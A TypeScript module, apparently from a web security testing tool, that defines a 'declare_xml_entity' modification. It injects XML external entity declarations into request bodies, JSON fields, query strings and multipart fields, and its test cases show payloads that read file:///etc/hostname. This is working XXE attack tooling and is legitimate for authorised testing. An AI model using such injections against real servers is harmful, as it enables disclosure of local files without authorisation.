import { replaceTexts, setBody } from '../../attempts/body-edits.ts'
import { replaceQueryValues } from '../../attempts/query-edits.ts'
import type { ModificationDefinition } from '../modification.ts'
import { textOf } from '../values.ts'

const DOCUMENT = /^\s*<[?!A-Za-z_]/
const DECLARED = /^\s*<\?xml\s/
/**
 * Elements of HTML that formatted text begins with (HTML Living Standard, section 4). Without those that are rather the
 * root of a document, such as `address`, `object` and `svg`.
 */
const FORMATTED = new Set(
  (
    'a abbr article aside audio b bdi bdo big blockquote body br button canvas center cite code dd del ' +
    'details dfn div dl dt em embed fieldset figcaption figure font footer h1 h2 h3 h4 h5 h6 head header ' +
    'hgroup hr html i iframe img input ins kbd label li mark meta nav ol p picture pre q s samp script ' +
    'section small span strike strong style sub summary sup table tbody td textarea tfoot th thead tr tt u ul ' +
    'var video'
  ).split(' '),
)
const NAME = /^[A-Za-z_][\w.-]{0,60}$/

/** `declare_xml_entity: {name: address}`; Vigil's own addition to the language. */
const declareXmlEntity: ModificationDefinition = {
  name: 'declare_xml_entity',
  summary:
    'Declares an external entity in the recorded XML document, which is the body, or in every document that a field of the body or the query holds. A field holds one if it begins with an XML declaration or with an element that formatted text (HTML) does not begin with. A reference to it takes the place of the first text (XML 1.0 section 4.2.2).',
  arguments: ['pairs'],
  canFail: false,
  apply(draft, key, value) {
    const { recorded } = draft.body
    const name = textOf(key)
    if (recorded.isBase64 || !NAME.test(name)) return 'nothing'
    const edited = (text: string): string | null => withEntity(text, name, textOf(value ?? ''))
    const body = DOCUMENT.test(recorded.text) ? edited(recorded.text) : null
    if (body !== null) setBody(draft, body)
    else {
      const editedField = (text: string): string | null => (isDocument(text) ? edited(text) : null)
      const isInBody = replaceTexts(draft, editedField)
      if (!replaceQueryValues(draft, editedField) && !isInBody) return 'nothing'
    }
    return 'done'
  },
  cases: [
    {
      title: 'declares the entity behind the declaration of the document',
      request:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/xml\n\n<?xml version="1.0"?><a><b>x</b></a>',
      argument: { f: 'file:///etc/hostname' },
      becomes:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/xml\n\n<?xml version="1.0"?><!DOCTYPE a [<!ENTITY f SYSTEM "file:///etc/hostname">]><a><b>&f;</b></a>',
    },
    {
      title: 'declares the entity in a document that a field holds',
      request:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/json\n\n{"a":[{"xml":"<order><b>x</b></order>"}],"n":1}',
      argument: { f: 'file:///etc/hostname' },
      becomes:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/json\n\n{"a":[{"xml":"<!DOCTYPE order [<!ENTITY f SYSTEM \\"file:///etc/hostname\\">]><order><b>&f;</b></order>"}],"n":1}',
    },
    {
      title: 'declares the entity in a document in the query',
      request: 'GET /?xml=%3Corder%3Ex%3C%2Forder%3E&n=1 HTTP/1.1\nhost: shop.test\n\n',
      argument: { f: 'file:///etc/hostname' },
      becomes:
        'GET /?xml=%3C!DOCTYPE%20order%20%5B%3C!ENTITY%20f%20SYSTEM%20%22file%3A%2F%2F%2Fetc%2Fhostname%22%3E%5D%3E%3Corder%3E%26f%3B%3C%2Forder%3E&n=1 HTTP/1.1\nhost: shop.test\n\n',
    },
    {
      title: 'declares the entity in a document in a multipart field',
      request:
        'POST /up HTTP/1.1\nhost: shop.test\ncontent-type: multipart/form-data; boundary=b\n\n--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n<order>x</order>\r\n--b--\r\n',
      argument: { f: 'file:///etc/hostname' },
      becomes:
        'POST /up HTTP/1.1\nhost: shop.test\ncontent-type: multipart/form-data; boundary=b\n\n--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n<!DOCTYPE order [<!ENTITY f SYSTEM "file:///etc/hostname">]><order>&f;</order>\r\n--b--\r\n',
    },
    {
      title: 'declares the entity behind an XML declaration in a field, whatever the element is',
      request:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/json\n\n{"xml":"<?xml version=\\"1.0\\"?><a>x</a>"}',
      argument: { f: 'file:///etc/hostname' },
      becomes:
        'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/json\n\n{"xml":"<?xml version=\\"1.0\\"?><!DOCTYPE a [<!ENTITY f SYSTEM \\"file:///etc/hostname\\">]><a>&f;</a>"}',
    },
    {
      title: 'changes no formatted text',
      request:
        'POST /?t=%3Cdiv%3Ex%3C%2Fdiv%3E HTTP/1.1\nhost: shop.test\ncontent-type: application/json\n\n{"text":"<p>Hi</p>","title":"<H1>Hi</H1><ul><li>x</li></ul>"}',
      argument: { f: 'file:///etc/hostname' },
      becomes: 'unchanged',
    },
    {
      title: 'leaves a body alone that is not XML',
      request: 'POST / HTTP/1.1\nhost: shop.test\ncontent-type: application/json\n\n{"a":1}',
      argument: { f: 'file:///etc/hostname' },
      becomes: 'unchanged',
    },
  ],
}

/** Whether a field holds XML rather than formatted text, which a broken value would spoil. */
function isDocument(text: string): boolean {
  if (DECLARED.test(text)) return true
  const root = /^\s*<([A-Za-z_][\w:.-]{0,100})[\s/>]/.exec(text)
  return root !== null && !FORMATTED.has(root[1]!.toLowerCase())
}

/** Null when the text is not a document, has a document type already, or does not hold a text. */
function withEntity(document: string, name: string, address: string): string | null {
  const root = /<([A-Za-z_][\w:.-]{0,100})[\s/>]/.exec(document)
  if (root === null || /<!DOCTYPE/i.test(document) || address.includes('"')) return null
  const head = document.slice(0, root.index)
  const rest = document.slice(root.index)
  const text = />([^<>]*[^<>\s][^<>]*)</.exec(rest)
  if (text === null) return null
  const filled = `${rest.slice(0, text.index + 1)}&${name};${rest.slice(text.index + text[0].length - 1)}`
  return `${head}<!DOCTYPE ${root[1]} [<!ENTITY ${name} SYSTEM "${address}">]>${filled}`
}

export default declareXmlEntity
